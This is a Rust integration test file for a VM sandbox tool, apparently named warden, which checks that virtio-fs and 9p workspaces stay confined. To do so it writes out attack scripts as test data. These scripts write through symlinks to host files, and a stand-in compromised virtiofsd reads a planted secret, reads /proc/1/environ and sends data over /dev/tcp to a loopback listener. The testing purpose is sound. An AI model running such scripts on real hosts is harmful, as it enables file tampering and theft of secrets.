//! The workspace of a VM sandbox over virtio-fs (a `virtiofsd` on the
//! host) and over 9p (the VMM itself), attacked the same way: a link the
//! guest follows never leads a write to a host file, virtiofsd never
//! outlives its sandbox, and a virtiofsd taken over (played by a stand-in
//! started exactly as warden starts the real one) reads, writes and
//! reaches nothing of the host outside the workspace.
//!
//! Booting tests are `#[ignore]`d (slow under emulation) and run with
//! `-- --ignored`, as in `vm.rs`; each skips, saying why, when no VM can
//! boot here or the host has no virtiofsd.

use crate::common::vm::*;
use crate::common::*;
use std::net::TcpListener;
use std::os::unix::fs::{MetadataExt, PermissionsExt};
use std::path::{Path, PathBuf};
use std::process::Command;
use std::time::Duration;

/// The virtiofsd warden would use, or `None` (the reason printed).
fn virtiofsd() -> Option<PathBuf> {
    let found = [
        "/usr/libexec/virtiofsd",
        "/usr/lib/virtiofsd",
        "/usr/lib/qemu/virtiofsd",
    ]
    .iter()
    .map(PathBuf::from)
    .find(|p| p.is_file());
    if found.is_none() {
        skip("no virtiofsd on this host (install virtiofsd or QEMU's)");
    }
    found
}

/// A file removed on drop.
struct Removed(PathBuf);

impl Drop for Removed {
    fn drop(&mut self) {
        let _ = std::fs::remove_file(&self.0);
    }
}

/// Stops the sandbox even when the test fails half-way.
struct Stopper<'a>(&'a Path, &'a str);

impl Drop for Stopper<'_> {
    fn drop(&mut self) {
        let _ = vm_warden(self.0, &["stop", "--time", "1s", self.1], None);
    }
}

/// The link attack over `fs` (`9p` or `virtiofs`): links planted in the
/// workspace by the host and links the guest makes, to a host file
/// outside it, absolute and relative, written through, truncated and
/// chmod-ed through by the guest; the host file must stay as it was and
/// the guest's links must be links on the host.
fn link_attack(fs: &str) {
    let dir = TempDir::new(&format!("vm-links-{fs}"));
    let ws = dir.path().join("ws");
    std::fs::create_dir_all(&ws).unwrap();
    let target = dir.path().join("host-file");
    let original = unique("host-file-content");
    std::fs::write(&target, &original).unwrap();
    std::fs::set_permissions(&target, std::fs::Permissions::from_mode(0o644)).unwrap();
    std::os::unix::fs::symlink(&target, ws.join("planted-abs")).unwrap();
    std::os::unix::fs::symlink("../host-file", ws.join("planted-rel")).unwrap();
    std::fs::create_dir(ws.join("sub")).unwrap();
    std::os::unix::fs::symlink(dir.path(), ws.join("sub/planted-dir")).unwrap();
    let t = target.display();
    let script = format!(
        "cd /workspace; \
         for l in planted-abs planted-rel sub/planted-dir/host-file; do \
           echo pwned > $l; echo pwned >> $l; truncate -s 0 $l; chmod 777 $l; done 2>/dev/null; \
         ln -s {t} made-abs; ln -s ../host-file made-rel; \
         for l in made-abs made-rel; do echo pwned > $l; chmod 777 $l; done 2>/dev/null; \
         mount | grep -q 'on /workspace type {fs} ' && echo MOUNTED-OVER-{fs}; \
         echo done"
    );
    let o = vm_warden_env(
        dir.path(),
        &[
            "run",
            "--isolation",
            "vm",
            "--no-tty",
            "-w",
            ws.to_str().unwrap(),
            "--",
            "sh",
            "-c",
            &script,
        ],
        None,
        &[("WARDEN_VM_FS", fs)],
    );
    let out = stdout(&o);
    assert!(out.contains("done"), "{out}\n{}", stderr(&o));
    // The attack ran over the file system it names, never another one
    // (a root-owned workspace once went over 9p whatever was asked).
    assert!(
        out.contains(&format!("MOUNTED-OVER-{fs}")),
        "the guest's workspace is not {fs}: {out}\n{}",
        stderr(&o)
    );
    assert_eq!(
        std::fs::read_to_string(&target).unwrap(),
        original,
        "over {fs}, a write through a link in the workspace reached a host file outside it"
    );
    assert_eq!(
        std::fs::metadata(&target).unwrap().mode() & 0o777,
        0o644,
        "over {fs}, a chmod through a link reached a host file"
    );
    for made in ["made-abs", "made-rel"] {
        let m = std::fs::symlink_metadata(ws.join(made)).unwrap();
        assert!(
            m.file_type().is_symlink(),
            "over {fs}, the guest's link {made} is not a link on the host"
        );
    }
}

#[test]
#[ignore = "boots a VM (slow under emulation): run with -- --ignored"]
fn a_link_in_the_workspace_never_leads_a_guest_write_to_a_host_file_over_virtiofs() {
    if guest_release().is_none() || virtiofsd().is_none() {
        return;
    }
    link_attack("virtiofs");
}

#[test]
#[ignore = "boots a VM (slow under emulation): run with -- --ignored"]
fn a_link_in_the_workspace_never_leads_a_guest_write_to_a_host_file_over_9p() {
    if guest_release().is_none() {
        return;
    }
    link_attack("9p");
}

#[test]
#[ignore = "boots a VM (slow under emulation): run with -- --ignored"]
fn virtiofsd_is_gone_after_stop_and_after_its_supervisor_is_killed() {
    if guest_release().is_none() || virtiofsd().is_none() {
        return;
    }
    let state = TempDir::new("vm-fsd-life");
    let env = [("WARDEN_VM_FS", "virtiofs")];
    let layer = state.path().join("warden/sandboxes/fsd/upper");
    let layer = layer.to_str().unwrap().to_string();
    let fsd_pids = || -> Vec<i32> {
        pids_with_marker(&layer)
            .into_iter()
            .filter(|p| {
                std::fs::read(format!("/proc/{p}/cmdline"))
                    .map(|c| String::from_utf8_lossy(&c).contains("virtiofsd"))
                    .unwrap_or(false)
            })
            .collect()
    };
    ok(&vm_warden_env(
        state.path(),
        &["create", "--isolation", "vm", "fsd"],
        None,
        &env,
    ));
    let _stop = Stopper(state.path(), "fsd");
    for how in ["stop", "SIGKILL of the supervisor"] {
        ok(&vm_warden_env(state.path(), &["start", "fsd"], None, &env));
        let o = vm_warden(
            state.path(),
            &["exec", "fsd", "--", "sh", "-c", "mount | grep -c virtiofs"],
            None,
        );
        assert_eq!(stdout(&o).trim(), "1", "{}", stderr(&o));
        let running = fsd_pids();
        assert_eq!(running.len(), 1, "no single virtiofsd serves the layer");
        // Its chroot is the layer (through the view that swaps root's
        // IDs with nobody's), never the host's `/`.
        let root = std::fs::metadata(format!("/proc/{}/root/", running[0])).unwrap();
        let served = std::fs::metadata(&layer).unwrap();
        assert_eq!(
            (root.dev(), root.ino()),
            (served.dev(), served.ino()),
            "virtiofsd's root is not the sandbox's layer"
        );
        if how == "stop" {
            ok(&vm_warden(
                state.path(),
                &["stop", "--time", "5s", "fsd"],
                None,
            ));
        } else {
            // SAFETY: kill with a PID and a signal number.
            unsafe {
                libc::kill(supervisor_pid(state.path(), "fsd"), libc::SIGKILL);
            }
        }
        wait_until(
            &format!("virtiofsd to end after {how}"),
            Duration::from_secs(30),
            || fsd_pids().is_empty() && running.iter().all(|p| !alive(*p)),
        );
    }
}

#[test]
#[ignore = "boots a VM (slow under emulation): run with -- --ignored"]
fn a_rootless_guests_files_over_virtiofs_are_its_users_on_the_host() {
    let Some(release) = guest_release() else {
        return;
    };
    if virtiofsd().is_none() {
        return;
    }
    let Some(who) = Unprivileged::get() else {
        skip("cannot get an unprivileged user to run warden as");
        return;
    };
    let dir = TempDir::new("vm-fsd-rootless");
    let vm = dir.path().join("vm");
    let kernel = vm.join("kernel");
    std::fs::create_dir_all(kernel.join("boot")).unwrap();
    let from = vm_dir().join("kernel");
    std::fs::copy(
        from.join(format!("boot/vmlinuz-{release}")),
        kernel.join(format!("boot/vmlinuz-{release}")),
    )
    .unwrap();
    let modules = Path::new("lib/modules").join(&release).join("kernel");
    for m in [
        "drivers/virtio/virtio_ring.ko",
        "drivers/virtio/virtio.ko",
        "drivers/virtio/virtio_mmio.ko",
        "drivers/char/virtio_console.ko",
        "net/9p/9pnet.ko",
        "net/9p/9pnet_virtio.ko",
        "fs/netfs/netfs.ko",
        "fs/fscache/fscache.ko",
        "fs/9p/9p.ko",
        "fs/fuse/fuse.ko",
        "fs/fuse/virtiofs.ko",
    ] {
        let src = from.join(&modules).join(m);
        if src.exists() {
            let dst = kernel.join(&modules).join(m);
            std::fs::create_dir_all(dst.parent().unwrap()).unwrap();
            std::fs::copy(&src, &dst).unwrap();
        }
    }
    let init = who.bin.parent().unwrap().join("warden-guest-init");
    std::fs::copy(env!("CARGO_BIN_EXE_warden-guest-init"), &init).unwrap();
    let ws = dir.path().join("ws");
    std::fs::create_dir_all(&ws).unwrap();
    let _ = Command::new("chown")
        .args(["-R", &format!("{}:{}", who.uid, who.gid)])
        .arg(dir.path())
        .status();
    let o = who
        .command(who.bin.to_str().unwrap())
        .args(["run", "--isolation", "vm", "--no-tty", "-w"])
        .arg(&ws)
        .args([
            "--",
            "sh",
            "-c",
            "mount | grep -q 'workspace type virtiofs' && echo VIRTIOFS; mkdir /workspace/d && echo x > /workspace/d/f && echo written",
        ])
        .env("WARDEN_VM_FS", "virtiofs")
        .env("WARDEN_VM_DIR", &vm)
        .env("WARDEN_STATE_DIR", dir.path().join("state"))
        .output()
        .unwrap();
    let out = stdout(&o);
    let err = stderr(&o);
    if err.contains("virtiofsd") && err.contains("setgroups") {
        skip("this user has supplementary groups, which the C virtiofsd insists on dropping and a rootless user namespace cannot: warden falls back to 9p then");
        return;
    }
    assert!(out.contains("VIRTIOFS"), "{out}\n{err}");
    assert!(out.contains("written"), "{out}\n{err}");
    for p in [ws.join("d"), ws.join("d/f")] {
        let m = std::fs::metadata(&p).unwrap();
        assert_eq!(
            (m.uid(), m.gid()),
            (who.uid, who.gid),
            "{} is not the user's",
            p.display()
        );
    }
}

/// The stand-in virtiofsd: finds the share among the arguments, then
/// attacks and reports there, and stays up a while (as a serving one
/// does).
fn escaped_fsd(at: &Path, planted: &Path, written: &Path, tcp: u16) {
    let script = format!(
        r#"#!/bin/bash
for a in "$@"; do case "$a" in source=*) ws="${{a#source=}}";; esac; done
r="$ws/fsd-report"
echo "ran as $(id -u):$(id -g) $(grep CapEff /proc/self/status)" > "$r"
echo "read: $(cat '{planted}' 2>&1)" >> "$r"
echo "write: $( (echo pwned > '{written}') 2>&1 && echo done)" >> "$r"
echo "tcp: $( (exec 3<>/dev/tcp/127.0.0.1/{tcp} && echo escaped-tcp >&3) 2>&1 && echo sent)" >> "$r"
echo "proc: $(cat /proc/1/environ 2>&1 | head -c 100)" >> "$r"
sleep 5
"#,
        planted = planted.display(),
        written = written.display(),
    );
    std::fs::write(at, script).unwrap();
    std::fs::set_permissions(at, std::fs::Permissions::from_mode(0o755)).unwrap();
}

/// A stand-in VMM that boots nothing: it stays up long enough for the
/// stand-in virtiofsd to report, then fails.
fn idle_vmm(at: &Path) {
    std::fs::write(at, "#!/bin/sh\nsleep 2\nexit 3\n").unwrap();
    std::fs::set_permissions(at, std::fs::Permissions::from_mode(0o755)).unwrap();
}

/// An escaped virtiofsd serving a workspace owned by `owner` (as root;
/// `None`: root's own): everything it tried outside the workspace failed.
/// Root's and a system account's workspace it serves as nobody through an
/// idmapped view, an ordinary account's as that account.
fn escaped_fsd_contained(tag: &str, owner: Option<(u32, u32)>) {
    let dir = TempDir::new(tag);
    let ws = dir.path().join("ws");
    std::fs::create_dir_all(&ws).unwrap();
    // Root's own file in root's home when the workspace is root's (the
    // hardest case: virtiofsd then holds its capabilities over root's
    // files), else the owner's own file beside the workspace.
    let secret = unique("fsd-planted-secret");
    let (planted, written) = match owner {
        None => (
            Path::new("/root").join(unique("warden-fsd-planted")),
            Path::new("/root").join(unique("warden-fsd-written")),
        ),
        Some(_) => (dir.path().join("private"), dir.path().join("written")),
    };
    std::fs::write(&planted, &secret).unwrap();
    std::fs::set_permissions(&planted, std::fs::Permissions::from_mode(0o600)).unwrap();
    let _p = Removed(planted.clone());
    let _w = Removed(written.clone());
    if let Some((uid, gid)) = owner {
        for p in [dir.path(), ws.as_path(), planted.as_path()] {
            std::os::unix::fs::chown(p, Some(uid), Some(gid)).unwrap();
        }
    }
    let listener = TcpListener::bind("127.0.0.1:0").unwrap();
    listener.set_nonblocking(true).unwrap();
    let tcp = listener.local_addr().unwrap().port();
    let fsd = dir.path().join("escaped-virtiofsd");
    escaped_fsd(&fsd, &planted, &written, tcp);
    let vmm = dir.path().join("idle-qemu");
    idle_vmm(&vmm);
    let o = Command::new(warden_bin())
        .args(["run", "--isolation", "vm", "--no-tty", "-w"])
        .arg(&ws)
        .args(["--", "true"])
        .env("WARDEN_VMM", &vmm)
        .env("WARDEN_VIRTIOFSD", &fsd)
        .env("WARDEN_VM_FS", "virtiofs")
        .env("WARDEN_VM_ACCEL", "tcg")
        .env("WARDEN_VM_DIR", vm_dir())
        .env("WARDEN_STATE_DIR", dir.path().join("state"))
        .stdin(std::process::Stdio::null())
        .output()
        .unwrap();
    let out = format!("{}\n{}", stdout(&o), stderr(&o));
    assert_ne!(code(&o), 0, "a stand-in VMM booted a guest? {out}");
    let report = std::fs::read_to_string(ws.join("fsd-report")).unwrap_or_default();
    eprintln!("the escaped virtiofsd's report:\n{report}");
    assert!(
        report.starts_with("ran as"),
        "the stand-in virtiofsd did not run or could not write the workspace: {out}"
    );
    let owner_ids = owner.unwrap_or((0, 0));
    let (uid, gid) = warden_jail::identity::sandbox_ids(Some(owner_ids));
    assert!(
        report.starts_with(&format!("ran as {uid}:{gid}")),
        "virtiofsd is not {uid}:{gid}: {report}"
    );
    // What it wrote in the workspace is the owner's on disk (through the
    // view where it is not the owner itself).
    let m = std::fs::metadata(ws.join("fsd-report")).unwrap();
    assert_eq!((m.uid(), m.gid()), owner_ids, "{report}");
    assert!(
        !report.contains(&secret),
        "an escaped virtiofsd read a host file outside the workspace:\n{report}"
    );
    assert!(
        !written.exists(),
        "an escaped virtiofsd wrote {} outside the workspace:\n{report}",
        written.display()
    );
    assert!(
        listener.accept().is_err(),
        "an escaped virtiofsd reached a listener on the host's loopback:\n{report}"
    );
    assert!(!report.contains("sent"), "{report}");
}

#[test]
fn an_escaped_virtiofsd_serving_roots_workspace_reads_and_writes_nothing_of_root() {
    if guest_release().is_none() {
        return;
    }
    if !is_root() {
        skip("needs root: this is the virtiofsd of a sandbox started by root");
        return;
    }
    escaped_fsd_contained("fsd-escape-root", None);
}

#[test]
fn an_escaped_virtiofsd_serving_a_system_accounts_workspace_reads_nothing_of_that_account_beside_it(
) {
    if guest_release().is_none() {
        return;
    }
    if !is_root() {
        skip("needs root: the workspace is another account's");
        return;
    }
    let Some(who) = Unprivileged::get() else {
        skip("cannot get an unprivileged user to own the workspace");
        return;
    };
    if warden_jail::identity::is_ordinary_uid(who.uid) {
        skip("the test account is an ordinary one here: the next test's case");
        return;
    }
    escaped_fsd_contained("fsd-escape-system", Some((who.uid, who.gid)));
}

#[test]
fn an_escaped_virtiofsd_serving_an_ordinary_users_workspace_reads_nothing_of_that_user_beside_it() {
    if guest_release().is_none() {
        return;
    }
    if !is_root() {
        skip("needs root: the workspace is another user's");
        return;
    }
    // An ordinary account's IDs (no account needs to exist for them): its
    // virtiofsd runs as that user, without a view.
    let (u, g) = warden_jail::identity::first_ordinary();
    escaped_fsd_contained("fsd-escape-user", Some((u + 3243, g + 3243)));
}
